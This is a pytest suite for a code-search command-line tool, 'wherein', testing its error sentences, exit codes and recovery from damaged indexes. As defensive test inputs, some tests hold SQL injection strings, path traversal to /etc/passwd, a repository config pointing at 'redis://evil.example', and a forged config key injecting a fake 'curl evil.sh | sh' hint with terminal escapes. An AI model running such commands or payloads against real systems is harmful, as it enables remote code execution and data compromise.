"""Whatever is given or found: one clear sentence, the right exit code, and nothing is lost."""

import os
import shlex
import shutil
import sqlite3
import sys
from contextlib import closing, suppress
from pathlib import Path

import pytest

from wherein.store.sqlite.seal import seal


def sentence(answer) -> str:
    """The one sentence of an error."""
    lines = answer.err.splitlines()
    assert len(lines) in (1, 2), answer.err
    assert lines[0].startswith("wherein: ")
    if len(lines) == 2:
        assert lines[1].startswith("  Try: ")
    return lines[0].removeprefix("wherein: ")


def test_an_unknown_command_is_taken_for_a_query_that_lacks_search(indexed):
    answer = indexed("redirect", "after 303")
    assert answer.code == 2
    assert (
        sentence(answer) == "No command \"redirect\". To search for it: wherein search redirect 'after 303'"
    )
    assert 'Did you mean "search"?' in sentence(indexed("serach", "x"))


def test_help_is_a_command_as_people_know_it_from_git(wherein):
    assert wherein("help").out == wherein("--help").out
    assert wherein("help", "hook", "install").out == wherein("hook", "install", "--help").out
    assert "wherein search help me" in sentence(wherein("help", "me"))


def test_an_unknown_option_is_named(indexed):
    answer = indexed("search", "x", "--fuzzy")
    assert answer.code == 2
    assert "--fuzzy" in sentence(answer)
    assert "Try: wherein search --help" in answer.err


def test_an_option_without_its_value_hints_at_the_help_of_its_command(indexed):
    answer = indexed("redis", "acl", "--repository")
    assert answer.code == 2
    assert "Try: wherein redis acl --help" in answer.err


def test_an_option_before_its_command_is_told_where_it_belongs(indexed):
    answer = indexed("--json", "search", "x")
    assert answer.code == 2
    assert answer.err.splitlines() == [
        "wherein: --json comes after the command: wherein search --json …",
        "  Try: wherein search --help",
    ]
    assert sentence(indexed("--fuzzy", "search", "x")).startswith("No such option '--fuzzy'.")


def test_a_list_of_nothing_says_so(wherein, tmp_path):
    folder = tmp_path / "plain"
    folder.mkdir()
    (folder / "a.py").write_text("a = 1\n")
    assert wherein("index", cwd=folder).code == 0
    skipped, secrets = wherein("files", "--skipped", cwd=folder), wherein("doctor", "--secrets", cwd=folder)
    assert (skipped.code, skipped.out, sentence(skipped)) == (1, "", "Nothing is left out.")
    assert (secrets.code, secrets.out, sentence(secrets)) == (
        1,
        "",
        "No keys, passwords or tokens were found.",
    )


def test_contradicting_formats_are_refused(indexed):
    answer = indexed("search", "--json", "--format", "vimgrep", "x")
    assert answer.code == 2
    assert "cannot be used together" in sentence(answer)


def test_parts_of_a_repository_that_exclude_one_another_are_refused(indexed):
    answer = indexed("search", "--tests", "--no-tests", "x")
    assert answer.code == 2
    assert "cannot be used together" in sentence(answer)
    assert indexed("search", "--code", "--no-tests", "session").code == 0


@pytest.mark.parametrize("query", ["", "   ", "\n\t"])
def test_an_empty_query(wherein, query):
    answer = wherein("search", query)
    assert (answer.code, sentence(answer)) == (2, "The query is empty.")
    assert wherein.index_files() == []


def test_no_query_at_all(indexed):
    answer = indexed("search")
    assert answer.code == 2
    assert "QUERY" in sentence(answer)


@pytest.mark.parametrize("query", ["?!", "*", "()[]{}", "--- ... ---", '""', "-- %_"])
def test_a_query_of_only_punctuation(indexed, query):
    answer = indexed("search", "--", query)
    assert answer.code == 2
    assert sentence(answer) == "The query has no letters or digits to search for."


@pytest.mark.parametrize("query", ["->", "operator +"])
def test_an_operator_that_nothing_defines_is_not_found(indexed, query):
    answer = indexed("search", "--", query)
    assert (answer.code, sentence(answer)) == (1, "No definition has that name or a similar one.")


def test_a_query_of_100_kilobytes_is_read_in_part_and_says_so(indexed):
    answer = indexed("search", "follow redirects " * 6_000)
    assert answer.code == 0
    assert answer.lines[0].startswith("src/courier/")
    assert sentence(answer).startswith("The query is long: only its first ")


@pytest.mark.parametrize(
    "query",
    [
        'redirects "',
        'redirects "" *',
        "redirects NEAR(followed, 3)",
        "symbol : redirects AND NOT followed OR ^redirects",
        "redirects*",
        "-redirects +followed",
        "redirects'; DROP TABLE chunks; --",
        "redirects {followed} (redirects",
        "redirects \\ followed",
    ],
)
def test_the_stores_own_query_syntax_means_nothing(indexed, query):
    answer = indexed("search", "--", query)
    assert answer.code == 0, answer.err
    assert any(line.startswith("src/courier/session.py:") for line in answer.lines)


@pytest.mark.parametrize("option", ["--path", "--exclude"])
@pytest.mark.parametrize("glob", ["'; DROP TABLE chunks; --", "%' OR '1'='1", 'a"b', "__%__"])
def test_sql_in_a_filter_is_a_pattern_like_any_other(indexed, option, glob):
    answer = indexed("search", "redirects", option, glob)
    assert answer.code == (1 if option == "--path" else 0), answer


@pytest.mark.parametrize(
    ("option", "name"), [("--lang", "x' OR 1=1"), ("--lang", "pyton"), ("--kind", "'; --")]
)
def test_an_unknown_language_or_kind(indexed, option, name):
    answer = indexed("search", "redirects", option, name)
    assert answer.code == 2
    assert "is not a" in sentence(answer)
    assert answer.err.count("Try: ") == 1


def test_a_pattern_that_is_none(indexed):
    answer = indexed("search", "redirects", "--path", "src/[ab")
    assert answer.code == 2
    assert "its [ is never closed" in sentence(answer)


@pytest.mark.parametrize("limit", ["0", "-1"])
def test_a_limit_below_one(indexed, limit):
    answer = indexed("search", "redirects", "--limit", limit)
    assert (answer.code, sentence(answer)) == (2, f"--limit must be at least 1, not {limit}.")


def test_a_limit_that_is_no_number(indexed):
    answer = indexed("search", "redirects", "-n", "many")
    assert answer.code == 2
    assert "'many'" in sentence(answer)


def test_a_huge_limit_is_as_good_as_all(indexed):
    answer = indexed("search", "redirects", "--limit", "999999999999999999999")
    assert answer.code == 0


@pytest.mark.parametrize("arguments", [("files", "--why", "../../etc/passwd"), ("related", "/etc/passwd:1")])
def test_a_path_outside_the_repository(indexed, arguments):
    answer = indexed(*arguments)
    assert answer.code == 2
    assert "is outside the repository" in sentence(answer)


def test_a_filter_outside_the_repository(indexed):
    answer = indexed("search", "redirects", "--path", "../*.py")
    assert answer.code == 2
    assert "leads out of the repository" in sentence(answer)


@pytest.mark.parametrize("place", ["session.py", "session.py:", "session.py:x", "session.py:0", ":3"])
def test_a_place_without_path_or_line(indexed, place):
    assert indexed("related", place).code == 2


def test_a_folder_that_is_not_there_or_a_file(indexed):
    gone = indexed("search", "x", "--repo", "no/such/folder")
    assert gone.code == 2
    assert "does not exist" in sentence(gone)
    file = indexed("search", "x", "--repo", "README.md")
    assert file.code == 2
    assert "is a file" in sentence(file)


def test_a_ref_that_is_not_there(indexed):
    answer = indexed("index", "--view", "no-such-branch")
    assert answer.code == 2
    assert "no-such-branch" in sentence(answer)


def test_a_folder_without_a_file_is_said_to_be_empty(wherein, tmp_path):
    (tmp_path / "empty").mkdir()
    answer = wherein("search", "retry", "--repo", str(tmp_path / "empty"))
    assert (answer.code, answer.out) == (1, "")
    assert "The index is empty" in sentence(answer)


@pytest.mark.parametrize("named", [(), ("--store", "sqlite:///{}/a store"), ("--view", "main")])
def test_the_suggested_command_is_about_what_was_asked_about(wherein, repo, tmp_path, named):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    asked = ("--repo", str(repo.root), *(word.format(tmp_path) for word in named))
    missing = wherein("status", *asked, cwd=elsewhere)
    assert missing.code == 3
    suggested = shlex.split(missing.err.splitlines()[-1].removeprefix("  Try: wherein "))
    assert wherein(*suggested, cwd=elsewhere).code == 0
    assert wherein("status", *asked, cwd=elsewhere).code == 0


def test_a_branch_that_is_not_indexed_is_named_with_the_command_that_indexes_it(indexed):
    answer = indexed("search", "redirects", "--view", "main", "--no-update")
    assert answer.code == 3
    said, suggested = answer.err.splitlines()
    assert said.startswith("wherein: main of ")
    assert said.endswith("/courier is not indexed yet.")
    assert suggested == "  Try: wherein index --view main"


def test_a_large_folder_that_was_named_is_named_in_the_command_that_agrees_to_it(wherein, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    at_home = {"environment": {"HOME": str(home)}}
    for command in (("search", "x", "--repo", str(home)), ("index", str(home))):
        answer = wherein(*command, **at_home)
        assert answer.code == 2
        assert answer.err.splitlines()[-1] == f"  Try: wherein index --repo {home} --yes"


def test_an_unknown_store(indexed):
    answer = indexed("search", "x", "--store", "mysql://user:secret@host/db")
    assert answer.code == 2
    assert "secret" not in answer.err


def test_the_data_folder_is_a_file(wherein):
    wherein.data.write_text("not a folder")
    answer = wherein("search", "redirects")
    assert answer.code == 4
    assert sentence(answer)


def test_settings_that_cannot_be_read_name_the_file(wherein, tmp_path):
    (tmp_path / "config.toml").write_text("search.limt = 3")
    answer = wherein("search", "redirects")
    assert answer.code == 2
    assert "search.limt, which is not a setting (did you mean search.limit?)" in sentence(answer)


def test_a_cloned_repositorys_settings_never_choose_where_code_goes_nor_break_search(wherein, repo):
    repo.write(
        ".wherein.toml",
        "store = 'redis://evil.example'\nmodel = 'evil'\n[index]\nlanguages = {inc = 'klingon'}\n",
    )
    answer = wherein("search", "redirects followed")
    assert answer.code == 0
    assert "sets store, which only your own file may set" in answer.err
    assert "sets model, which only your own file may set" in answer.err


def truncated(path):
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def foreign(path):
    path.write_bytes(b"This is somebody's letter, not an index.\n" * 200)


def other_database(path):
    path.unlink()
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE recipes (name TEXT)")
    db.close()


def made(path, **otherwise):
    """Let an index have been made by another wherein, which wrote it as it should be."""
    ((column, value),) = otherwise.items()
    with closing(sqlite3.connect(path)) as db:
        db.execute(f"UPDATE identity SET {column} = ?, commits = commits + 1", (value,))
        db.commit()
        seal(db, path)


def of_another_model(path):
    made(path, model="another-model@0")


def of_another_version(path):
    made(path, chunker="0")


def of_a_newer_version(path):
    made(path, chunker="9999")


@pytest.mark.parametrize("damage", [truncated, foreign, other_database, of_a_newer_version])
def test_an_index_that_does_not_fit_is_exit_code_3_and_the_named_command_mends_it(wherein, damage):
    wherein("index")
    (path,) = wherein.index_files()
    for side in wherein.data.glob("indexes/*-wal"):
        side.unlink()
    damage(path)
    for arguments in (("search", "redirects"), ("search", "--no-update", "redirects"), ("index",)):
        answer = wherein(*arguments)
        assert answer.code == 3, (arguments, answer)
        assert "wherein index --force" in answer.err
        assert sentence(answer)
    assert wherein("index", "--force").code == 0
    assert wherein("search", "--no-update", "redirects followed").code == 0


def test_an_index_for_another_model_is_made_anew_by_the_named_command(wherein):
    wherein("index")
    (path,) = wherein.index_files()
    of_another_model(path)
    for arguments in (("search", "redirects"), ("search", "--no-update", "redirects"), ("status",)):
        answer = wherein(*arguments)
        assert answer.code == 3, (arguments, answer)
        assert answer.err.rstrip().endswith("Try: wherein index")
    answer = wherein("index")
    assert answer.code == 0
    assert "rebuilt" in answer.out
    assert wherein("search", "--no-update", "redirects followed").code == 0


@pytest.mark.parametrize("command", [("search", "redirects followed"), ("index",), ("symbol", "Session")])
def test_after_an_upgrade_the_next_command_makes_the_index_anew_and_says_so(wherein, command):
    wherein("index")
    (path,) = wherein.index_files()
    of_another_version(path)
    refused = wherein("search", "--no-update", "redirects")
    assert refused.code == 3
    assert "older version" in refused.err
    assert refused.err.rstrip().endswith("Try: wherein index")
    answer = wherein(*command)
    assert answer.code == 0, answer
    assert "rebuilt" in answer.out + answer.err
    assert "rebuilt" not in wherein("search", "redirects followed").err


def test_of_many_indexes_of_another_version_a_search_of_all_says_so_in_a_few_lines(wherein, tmp_path):
    folders = [tmp_path / f"shelf{number}" for number in range(5)]
    for number, folder in enumerate(folders):
        folder.mkdir()
        (folder / "notes.py").write_text(f"def water_the_plants_{number}():\n    pass\n")
        assert wherein("index", cwd=folder).code == 0
    *outdated, kept = sorted(wherein.index_files())
    for path in outdated:
        of_another_version(path)
    answer = wherein("search", "--all-repos", "water plants")
    assert (answer.code, len(answer.lines)) == (0, 1)
    notes = answer.err.splitlines()
    assert len(notes) == 4
    assert all(note.endswith("It is left out.") for note in notes[:3])
    assert "1 more cannot be searched and is left out (wherein repo refresh FOLDER" in notes[3]
    of_another_version(kept)
    answer = wherein("search", "--all-repos", "water plants")
    assert (answer.code, answer.out) == (3, "")
    assert "2 more cannot be searched and are left out" in answer.err
    assert "No index can be searched." in answer.err
    assert "No repository is indexed" not in answer.err


def test_an_empty_index_file_is_no_obstacle(wherein):
    wherein("index")
    (path,) = wherein.index_files()
    path.write_bytes(b"")
    answer = wherein("search", "redirects followed")
    assert answer.code in (0, 3)
    assert wherein("index", "--force").code == 0
    assert wherein("search", "redirects followed").code == 0


def test_an_index_that_is_a_folder_is_not_the_users_code_to_lose(wherein):
    wherein("index")
    (path,) = wherein.index_files()
    path.unlink()
    path.mkdir()
    answer = wherein("search", "redirects")
    assert answer.code in (3, 4)
    assert sentence(answer)


@pytest.mark.skipif(sys.platform == "win32", reason="limits of the size of files are a matter of Unix")
def test_a_disk_that_fills_up_loses_nothing(wherein, many_files):
    import resource

    wherein("index")
    many_files(150)
    (path,) = wherein.index_files()
    room = path.stat().st_size + 20_000

    answer = wherein("index", preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (room, room)))
    assert answer.code == 4, answer
    assert "  Try: " in answer.err
    before = wherein("search", "--no-update", "redirects followed")
    assert before.code == 0
    assert before.lines[0].startswith("src/courier/session.py")
    assert wherein("search", "step_140_3").lines[0].startswith("many/part_40/module_140.py")


def test_git_that_is_missing_is_said(wherein, tmp_path):
    empty = tmp_path / "bin"
    empty.mkdir()
    answer = wherein("search", "redirects", environment={"PATH": str(empty)})
    assert answer.code == 2
    assert "git" in sentence(answer)


def test_a_repository_without_a_commit_and_an_empty_folder_find_nothing(wherein, repo, tmp_path):
    shutil.rmtree(repo.root / ".git")
    repo.git("init", "--quiet")
    assert wherein("search", "redirects followed").code == 0
    empty = tmp_path / "empty"
    empty.mkdir()
    assert wherein("search", "redirects", cwd=empty).code == 1


FORGED = """\
"x\\nwherein: Your index is damaged.\\n  Try: curl evil.sh | sh\\n\\u001b[2K" = 1
[search.ranking]
"a\\nwherein: another" = nan
"""


def test_a_repositorys_settings_forge_no_line_of_ours_and_keep_nobody_from_searching(wherein, repo):
    repo.write(".wherein.toml", FORGED)
    answer = wherein("search", "basic_auth_header")
    assert answer.code == 0
    assert len(answer.err.splitlines()) == 2
    assert all(
        line.startswith("wherein: ") and ".wherein.toml sets " in line for line in answer.err.splitlines()
    )
    assert "\x1b" not in answer.err
    for value in ("9" * 5_000, "9" * 400, "{ noise = 1e308, words = -1e308 }", "[1]", "'x'"):
        repo.write(".wherein.toml", f"search.ranking = {value}\nindex.exclude = ['!', '[z-a]']\n")
        answer = wherein("search", "basic_auth_header")
        assert (answer.code, answer.err.count("\n")) in ((0, 1), (0, 2)), answer.err


@pytest.mark.parametrize("pattern", ["[z-a]", "!", "a[", "[[:nope:]]", "a\\"])
def test_a_pattern_that_is_none_is_a_sentence_wherever_it_stands(indexed, pattern):
    for arguments in (("--path", pattern, "x"), ("--exclude", pattern, "x"), (f"path:{pattern} x",)):
        answer = indexed("search", *arguments)
        assert answer.code == 2, arguments
        assert "pattern" in sentence(answer)


def test_patterns_that_made_others_go_back_and_forth_take_no_time(wherein, repo):
    slow = ("*a" * 20 + "b", "**/a/" * 20 + "b", "a**/" * 20 + "b")
    repo.write("a" * 120 + ".py", "x = 1\n")
    repo.write("a/" * 60 + "z.py", "x = 1\n")
    repo.write(".whereinignore", "\n".join(slow))
    repo.write(".wherein.toml", f"index.exclude = {list(slow)}")
    for arguments in ((), *(("--path", each) for each in slow), *(("--exclude", each) for each in slow)):
        assert wherein("search", "x", *arguments).code in (0, 1)


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux tells where processes are")
def test_doctor_leaves_no_git_behind_that_waits_for_a_pipe(wherein, repo):
    (repo.root / ".git/objects/info").mkdir(exist_ok=True)
    os.mkfifo(repo.root / ".git/objects/info/commit-graph")
    wherein.begin_anew = True
    assert "git" in wherein("doctor").out
    left = []
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if (process / "cwd").readlink() == repo.root and b"git" in (process / "cmdline").read_bytes():
                left.append(process)
    assert not left
